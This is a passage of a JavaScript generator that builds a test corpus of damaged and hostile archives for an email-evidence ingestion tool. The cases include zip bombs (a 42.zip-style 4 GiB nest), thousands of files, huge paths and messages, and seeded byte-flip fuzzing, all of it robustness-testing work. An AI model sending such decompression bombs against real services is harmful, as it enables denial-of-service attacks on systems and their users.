  // ---- resource exhaustion
  const zeros10 = Buffer.alloc(10 * MiB);
  inZip('resource', 'bomb-100x10mb', '100 entries of 10 MB of zeros', Array.from({ length: 100 }, (_, i) => ({ name: `bomb/${i}.bin`, data: zeros10 })), {}, { ci: true });
  {
    let level = zipOf(Array.from({ length: 4 }, (_, i) => ({ name: `z${i}.bin`, data: Buffer.alloc(16 * MiB) })));
    for (let d = 0; d < 3; d++) level = zipOf(Array.from({ length: 4 }, (_, i) => ({ name: `l${d}-${i}.zip`, data: level })));
    add('resource', 'recursive-42', 'a 42.zip-style nest: 4^3 zips of 4 × 16 MiB of zeros (4 GiB in all)', [{ name: 'case.zip', data: zipOf([...goodFiles(), { name: '42.zip', data: level }]) }], GOOD_PATHS, { ci: true });
  }
  inZip('resource', 'files-30000', '30,000 tiny files', Array.from({ length: 30_000 }, (_, i) => ({ name: `many/${i}.txt`, data: enc(String(i)), method: 0 })));
  inZip('resource', 'messages-3000', '3,000 small messages', Array.from({ length: 3000 }, (_, i) => ({ name: goodPath(10_000 + i, 'bob'), data: message(10_000 + i) })));
  add('resource', 'dropped-200', '200 dropped files at once', Array.from({ length: 200 }, (_, i) => ({ name: `m${i}.eml`, data: message(30_000 + i) })), ['m0.eml', 'm199.eml']);
  inZip('resource', 'long-paths', 'paths of 60,000 characters', [{ name: `${'p'.repeat(60_000)}.eml`, data: message(31_000) }]);
  add('resource', 'huge-message', 'a 60 MB message', [{ name: 'case.zip', data: zipOf([...goodFiles(), { name: goodPath(31_001), data: message(31_001, { body: 'y'.repeat(60 * MiB) }) }]) }], GOOD_PATHS);

  // Padding classes with seeded single-byte damage of the good zip, at fixed positions, keeps the count honest and deterministic.
  for (let i = 0; cases.length < 210; i++) {
    const bytes = Buffer.from(sound);
    const at = Math.floor(((i * 2654435761) >>> 0) % bytes.length);
    bytes[at] ^= 0x5a;
    add('zip', `flip-${at}`, `one byte flipped at offset ${at}`, [{ name: 'case.zip', data: bytes }, { name: 'ok.eml', data: message(40_000 + i) }], ['ok.eml']);
  }
  return cases;
}

/** Random damage of good evidence: truncation, byte flips, spliced junk and repeated slices, from a seed. */
export function randomCases(seed, count) {
  const rand = mulberry32(seed);
  const base = zipOf([...goodFiles(), { name: 'inner.zip', data: zipOf(goodFiles()) }]);
  const cases = [];
  for (let i = 0; i < count; i++) {
    let bytes = Buffer.from(base);
    const ops = 1 + Math.floor(rand() * 4);
    for (let k = 0; k < ops; k++) {
      const op = Math.floor(rand() * 4);
      const at = Math.floor(rand() * bytes.length);
      if (op === 0) bytes = bytes.subarray(0, Math.max(1, at));
      else if (op === 1) for (let j = 0; j < 1 + rand() * 16; j++) bytes[Math.floor(rand() * bytes.length)] = Math.floor(rand() * 256);
      else if (op === 2) bytes = Buffer.concat([bytes.subarray(0, at), Buffer.from(Array.from({ length: Math.floor(rand() * 512) }, () => Math.floor(rand() * 256))), bytes.subarray(at)]);
      else bytes = Buffer.concat([bytes, bytes.subarray(at, Math.min(bytes.length, at + Math.floor(rand() * 4096)))]);
    }
    cases.push({ id: `random/${seed}-${i}`, cls: 'random', title: `seed ${seed} case ${i}`, files: [{ name: 'case.zip', data: bytes }, { name: 'ok.eml', data: message(50_000 + i) }], good: ['ok.eml'] });
  }
  return cases;
}

/** Writes cases to disk: <dir>/<id>/<file>, plus manifest.json with everything but the bytes. */
export function writeCases(cases, dir = CORPUS_DIR) {
  rmSync(dir, { recursive: true, force: true });
  const manifest = [];
  for (const c of cases) {
    const folder = join(dir, c.id);
    mkdirSync(folder, { recursive: true });
    const files = c.files.map((f) => {
      const path = join(folder, f.name.replaceAll('/', '_'));
      writeFileSync(path, f.data);
      return { name: f.name, path };
    });
    manifest.push({ ...c, files });
  }
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest, null, 1));
  return manifest;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  // --random SEED COUNT adds COUNT randomly damaged cases drawn from SEED.
  const at = process.argv.indexOf('--random');
  const random = at > 0 ? randomCases(Number(process.argv[at + 1] ?? 1), Number(process.argv[at + 2] ?? 50)) : [];
  const cases = [...(await buildCorpus()), ...random];
  const manifest = writeCases(cases);
  const byClass = {};
  for (const c of manifest) byClass[c.cls] = (byClass[c.cls] ?? 0) + 1;
  console.log(`${manifest.length} cases (${Object.entries(byClass).map(([k, v]) => `${k} ${v}`).join(', ')}); ${manifest.filter((c) => c.ci).length} in CI`);
  console.log(CORPUS_DIR);
}
